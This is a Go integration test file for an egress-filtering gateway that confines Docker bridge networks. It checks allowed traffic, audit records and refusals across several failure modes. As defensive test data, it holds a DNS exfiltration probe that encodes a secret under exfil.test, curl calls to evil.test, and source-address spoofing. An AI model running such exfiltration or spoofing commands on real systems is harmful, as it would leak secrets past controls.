//go:build linux

package containers

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"sallyport/audit"
	"sallyport/test/lab"
)

// network is a user-defined network of an engine whose default route is a
// gateway.
type network struct {
	*engine
	n       int // number of its prefixes
	gateway *lab.Gateway
	trust   string
}

func (n *network) name() string      { return fmt.Sprintf("net%d", n.n) }
func (n *network) link() string      { return fmt.Sprintf("brsp%d", n.n) }
func (n *network) address() string   { return fmt.Sprintf("10.66.%d.1", n.n) }
func (n *network) host(i int) string { return fmt.Sprintf("10.66.%d.%d", n.n, i) }

// bridge makes a network, and a gateway that is its default route.
func bridge(t testing.TB, e *engine, n int, more string) *network {
	t.Helper()
	b := unstartedBridge(t, e, n, more)
	if err := b.gateway.Start(); err != nil {
		t.Fatal(err)
	}
	b.trust, _ = trustDir(t, b.gateway, "docker")
	if !lab.Within(patience, func() bool { return strings.Contains(b.nft(), "answers_"+b.link()) }) {
		t.Fatalf("the gateway did not take %s:\n%s", b.link(), b.gateway.Stderr())
	}
	return b
}

// unstartedBridge makes a network, and lays out the gateway that is to be its
// default route.
func unstartedBridge(t testing.TB, e *engine, n int, more string) *network {
	t.Helper()
	b := &network{engine: e, n: n}
	policy := strings.Replace(ciPolicy, `labels = { team = "build" }`,
		fmt.Sprintf("ipv6 = true\n  match { cidrs = [\"10.66.%d.0/24\", \"fd66:%d::/64\"] }", n, n), 1)
	b.gateway = e.lab.UnstartedGateway(t, lab.GatewayOptions{Policy: map[string]string{"p.hcl": e.lab.MustPolicy(t, policy, secretValue)},
		More: fmt.Sprintf("capture \"bridge\" {\n  interface = [%q]\n%s\n}\n", b.link(), more)})
	e.docker(t, "network", "create", "-o", "com.docker.network.bridge.name="+b.link(), "--subnet", fmt.Sprintf("10.66.%d.0/24", n), "--gateway", b.address(),
		"--ipv6", "--subnet", fmt.Sprintf("fd66:%d::/64", n), "--gateway", fmt.Sprintf("fd66:%d::1", n), b.name())
	t.Cleanup(func() {
		if _, err := e.try("network", "rm", b.name()); err != nil {
			t.Error(err)
		}
	})
	return b
}

// nft are the chains of the gateway's host.
func (n *network) nft() string {
	var out []byte
	_ = n.lab.GW.Do(func() (err error) { // no rules yet is no rules
		out, err = exec.Command("nft", "list", "chains").CombinedOutput()
		return err
	})
	return string(out)
}

// container starts a container on the network, at its i-th address.
func (n *network) container(t testing.TB, i int, args ...string) string {
	t.Helper()
	return n.run(t, append([]string{"--network", n.name(), "--ip", n.host(i), "-e", "API_KEY=$API_KEY",
		"-e", "CURL_CA_BUNDLE=/run/sallyport/bundle.pem", "-v", n.trust + ":/run/sallyport:ro"}, args...)...)
}

// refused holds that an attempt of the network's sandbox was recorded with a
// reason.
func (n *network) refused(t testing.TB, reason string) {
	t.Helper()
	await(t, n.gateway, reason, func(e *audit.Event) bool {
		return e.Phase == audit.PhaseDecision && e.Reason == reason && e.Sandbox != nil && e.Sandbox.Name == "ci"
	})
}

// fetch is an HTTP request from outside, on the net.
func fetch(url string) (string, error) {
	tr := &http.Transport{DisableKeepAlives: true, DialContext: func(ctx context.Context, network, address string) (c net.Conn, err error) {
		err = world.lab.Net.Do(func() error {
			d := net.Dialer{Timeout: 3 * time.Second, FallbackDelay: -1}
			c, err = d.Dial(network, address)
			return err
		})
		return c, err
	}}
	resp, err := (&http.Client{Transport: tr, Timeout: 5 * time.Second}).Get(url)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return string(b), err
}

// engineWithResolver starts an engine on a host whose resolver is a local one,
// and returns that resolver's log.
func engineWithResolver(t testing.TB, flags ...string) (*engine, *listener) {
	t.Helper()
	l := &listener{}
	l.listen(t, "127.0.0.1:53")
	file := filepath.Join(t.TempDir(), "resolv.conf")
	if err := os.WriteFile(file, []byte("nameserver 127.0.0.1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	e, err := (&engine{lab: world.lab, flags: flags, resolvConf: file}).begin()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := e.close(); err != nil {
			t.Error(err)
		}
	})
	return e, l
}

// TestBridge: a user-defined network whose default route is the gateway, with
// real containers, over IPv4 and IPv6.
func TestBridge(t *testing.T) {
	e, local := engineWithResolver(t, "--dns", "10.66.71.1")
	n := bridge(t, e, 71, "")
	id := n.container(t, 10)
	t.Run("allowed", func(t *testing.T) {
		for _, version := range []string{"-4", "-6"} {
			before := len(world.lab.Origins.Host("good.test").Requests())
			out, err := n.get(id, version+" https://good.test/hello")
			if err != nil || !strings.HasSuffix(out, " 200") {
				t.Fatalf("curl %s: %s %v", version, out, err)
			}
			got := world.lab.Origins.Host("good.test").Requests()[before:]
			if len(got) != 1 || fmt.Sprint(got[0].Header["Authorization"]) != "[Bearer "+secretValue+"]" {
				t.Errorf("the origin saw %+v", got)
			}
		}
	})
	t.Run("the engine's resolver asks the gateway", func(t *testing.T) {
		if out, err := n.exec(id, "/bin/cat", "/etc/resolv.conf"); err != nil || !strings.Contains(out, "127.0.0.11") {
			t.Errorf("not the engine's resolver: %q %v", out, err)
		}
		_, _ = n.exec(id, "/bin/nslookup", "c2VjcmV0.exfil.test") // refused, as it should be
		await(t, n.gateway, "name refused", func(e *audit.Event) bool {
			return e.Kind == audit.KindDNS && e.Verdict == "deny" && e.Host == "c2vjcmv0.exfil.test" && e.Sandbox != nil && e.Sandbox.Name == "ci"
		})
		if heard := local.heard(); len(heard) > 0 {
			t.Errorf("the host's resolver was asked: %q", heard)
		}
		if asked := world.lab.DNS.Asked("exfil.test"); len(asked) > 0 {
			t.Errorf("the net was asked: %v", asked)
		}
	})
	t.Run("refused", func(t *testing.T) {
		for reason, command := range map[string]string{
			"host_not_allowed": "curl -sS -m 5 http://evil.test/",
			"ip_literal":       "curl -sS -m 5 http://" + lab.Origin + "/",
			"icmp_blocked":     "ping -c1 -W1 " + lab.Origin + "; ping -6 -c1 -W1 " + lab.Origin6,
			"udp_blocked":      "timeout 1 tftp -g -r x -l /tmp/x " + lab.Raw + " 9999",
			"quic_blocked":     "timeout 1 tftp -g -r x -l /tmp/x " + lab.Raw + " 443",
		} {
			_, _ = n.exec(id, "/bin/sh", "-c", command) // it fails, or is answered with the refusal
			n.refused(t, reason)
		}
	})
	t.Run("spoofed", func(t *testing.T) {
		forger := n.container(t, 11, "--cap-add", "NET_ADMIN")
		_, _ = n.exec(forger, "/bin/sh", "-c", "ip addr add 10.66.99.9/32 dev eth0; ping -c1 -W1 -I 10.66.99.9 "+lab.Origin) // dropped
		await(t, n.gateway, "spoof", func(e *audit.Event) bool {
			return e.Reason == "spoofed_source" && e.Src != nil && e.Src.IP == "10.66.99.9"
		})
	})
	t.Run("neighbours", func(t *testing.T) {
		other := n.container(t, 12)
		n.docker(t, "exec", "-d", other, "/bin/httpd", "-f", "-p", "80", "-h", "/bin")
		if out, err := n.exec(id, "/bin/curl", "-sS", "-m", "3", "http://"+n.host(12)+"/true"); err == nil {
			t.Errorf("a neighbour answered: %.100q", out)
		}
		if out, err := n.exec(id, "/bin/ping", "-c1", "-W1", n.host(12)); err == nil {
			t.Errorf("a neighbour answered: %s", out)
		}
		if out, err := n.exec(id, "/bin/sh", "-c", "ping -6 -c1 -W1 fd66:71::12 && echo yes"); err == nil {
			t.Errorf("a neighbour answered over IPv6: %s", out)
		}
	})
	t.Run("published", func(t *testing.T) { n.published(t, 20, 8071) })
	n.held(t, id)
}

// published holds that a port which the engine publishes can be reached from
// outside, and that the container behind it is held as every other.
func (n *network) published(t *testing.T, i, port int) {
	t.Helper()
	web := n.container(t, i, "-p", fmt.Sprintf("%d:80", port))
	n.docker(t, "exec", "-d", web, "/bin/sh", "-c", "mkdir -p /tmp/www; echo inside >/tmp/www/index.html; httpd -f -p 80 -h /tmp/www")
	var out string
	var err error
	if !lab.Within(patience, func() bool {
		out, err = fetch(fmt.Sprintf("http://%s:%d/index.html", lab.Uplink, port))
		return err == nil
	}) || out != "inside\n" {
		t.Errorf("from outside: %q %v", out, err)
	}
	if out, err := fetch(fmt.Sprintf("http://%s:80/index.html", n.host(i))); err == nil {
		t.Errorf("from outside, past the published port: %q", out)
	}
	if out, err := n.exec(web, "/bin/curl", "-sS", "-m", "5", "http://evil.test/"); err != nil || !strings.Contains(out, "host_not_allowed") {
		t.Errorf("from inside: %q %v", out, err)
	}
}

// held holds that nothing leaves with the gateway dead and with its rules
// flushed, though the host forwards.
func (n *network) held(t *testing.T, id string) {
	t.Run("gateway dead", func(t *testing.T) {
		if err := n.gateway.Kill(); err != nil {
			t.Fatal(err)
		}
		n.attempts(t, id, "gateway dead")
	})
	t.Run("rules flushed", func(t *testing.T) {
		err := n.lab.GW.Do(func() error { return exec.Command("nft", "delete", "table", "inet", "sallyport").Run() })
		if err != nil {
			t.Fatal(err)
		}
		n.attempts(t, id, "rules flushed")
	})
	t.Run("removed", func(t *testing.T) {
		cmd := exec.Command(n.lab.Binary, "serve", "--remove")
		if err := n.lab.GW.Start(cmd); err != nil {
			t.Fatal(err)
		}
		if err := cmd.Wait(); err != nil {
			t.Fatal(err)
		}
		rules := ""
		err := n.lab.GW.Do(func() error {
			for _, family := range []string{"-4", "-6"} {
				b, err := exec.Command("ip", family, "rule").CombinedOutput()
				if err != nil {
					return err
				}
				rules += string(b)
			}
			return nil
		})
		if err != nil || strings.Contains(rules, "0x5350000") || strings.Contains(rules, n.link()) || strings.Contains(n.nft(), "sallyport") {
			t.Errorf("left: %s %v", rules, err)
		}
	})
}

// attempts makes attempts of many kinds and holds that nothing reached the
// net.
func (n *network) attempts(t testing.TB, id, when string) {
	t.Helper()
	before, err := world.lab.Strays()
	if err != nil {
		t.Fatal(err)
	}
	for _, command := range []string{
		"curl -sS -m 2 http://" + lab.Origin + "/", "curl -6 -sS -m 2 http://[" + lab.Origin6 + "]/",
		"ping -c1 -W1 " + lab.Origin, "timeout 1 tftp -g -r x -l /tmp/x " + lab.Raw + " 9999", "nslookup good.test 8.8.8.8",
		"curl -sS -m 2 https://good.test/",
	} {
		if out, err := n.exec(id, "/bin/sh", "-c", command); err == nil && strings.Contains(out, "HTTP") {
			t.Errorf("%s: %s: %s", when, command, out)
		}
	}
	if after, err := world.lab.Strays(); err != nil || after != before {
		t.Errorf("%s: %d packets reached the net: %v", when, after-before, err)
	}
}

// TestBridgeOfFilteringEngine: the same with an engine that has rules of its
// own, and translates instead of copying.
func TestBridgeOfFilteringEngine(t *testing.T) {
	e, local := engineWithResolver(t, "--dns", "10.66.72.1", "--iptables=true", "--ip6tables=true", "--experimental", "--userland-proxy=false")
	n := bridge(t, e, 72, "")
	id := n.container(t, 10)
	if out, err := n.get(id, "https://good.test/hello"); err != nil || !strings.HasSuffix(out, " 200") {
		t.Errorf("allowed: %s %v", out, err)
	}
	n.published(t, 20, 8072)
	if heard := local.heard(); len(heard) > 0 {
		t.Errorf("the host's resolver was asked: %q", heard)
	}
	rules := n.nft()
	if err := n.gateway.Stop(); err != nil {
		t.Fatal(err)
	}
	if out, err := n.exec(id, "/bin/curl", "-sS", "-m", "2", "http://"+lab.Origin+"/"); err == nil {
		t.Errorf("without the gateway: %s", out)
	}
	if !strings.Contains(rules, "DOCKER") {
		t.Errorf("the engine has no rules of its own:\n%s", rules)
	}
}

// TestBridgeWithPeers: containers of a bridge speak to one another where the
// daemon file says so, and to nobody else.
func TestBridgeWithPeers(t *testing.T) {
	n := bridge(t, world.engine, 73, "  peers = true")
	id, other := n.container(t, 10), n.container(t, 12)
	n.docker(t, "exec", "-d", other, "/bin/httpd", "-f", "-p", "80", "-h", "/bin")
	if !lab.Within(patience, func() bool {
		_, err := n.exec(id, "/bin/curl", "-sS", "-m", "3", "-o", "/dev/null", "http://"+n.host(12)+"/true")
		return err == nil
	}) {
		t.Error("the neighbour does not answer")
	}
	if out, err := n.exec(id, "/bin/curl", "-sS", "-m", "3", "http://"+lab.Origin+"/"); err == nil && !strings.Contains(out, "ip_literal") {
		t.Errorf("got out: %s", out)
	}
}

// TestBridgeOfFilteringHost: where the kernel shows bridged packets to the
// rules for routed ones, the gateway does not start, says what to change, and
// nothing gets out.
func TestBridgeOfFilteringHost(t *testing.T) {
	n := bridge(t, world.engine, 75, "")
	id := n.container(t, 10)
	if err := n.gateway.Stop(); err != nil {
		t.Fatal(err)
	}
	if err := filterBridges(true); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := filterBridges(false); err != nil {
			t.Error(err)
		}
	})
	err := n.gateway.Start()
	if err == nil || !strings.Contains(err.Error(), "net.bridge.bridge-nf-call-iptables") {
		t.Errorf("it starts: %v", err)
	}
	if code, err := n.gateway.Exit(time.Second); err != nil || code != 78 {
		t.Errorf("exit %d %v", code, err)
	}
	n.attempts(t, id, "filtering host")
}

// TestBridgeLeakWithoutDNS: what the documents warn of is so. An engine on a
// host with a local resolver, that was not told to ask the gateway, asks that
// resolver for its containers.
func TestBridgeLeakWithoutDNS(t *testing.T) {
	e, local := engineWithResolver(t)
	n := bridge(t, e, 74, "")
	id := n.container(t, 10)
	_, _ = n.exec(id, "/bin/nslookup", "leak.test") // nobody answers
	if !lab.Within(patience, func() bool { return strings.Contains(strings.Join(local.heard(), " "), "leak") }) {
		t.Error("the host's resolver was not asked: the documents are wrong")
	}
	told := n.container(t, 11, "--dns", n.address())
	_, _ = n.exec(told, "/bin/nslookup", "held.test") // refused
	await(t, n.gateway, "name refused", func(e *audit.Event) bool { return e.Kind == audit.KindDNS && e.Host == "held.test" })
	if heard := strings.Join(local.heard(), " "); strings.Contains(heard, "held") {
		t.Errorf("the host's resolver was asked: %q", heard)
	}
}
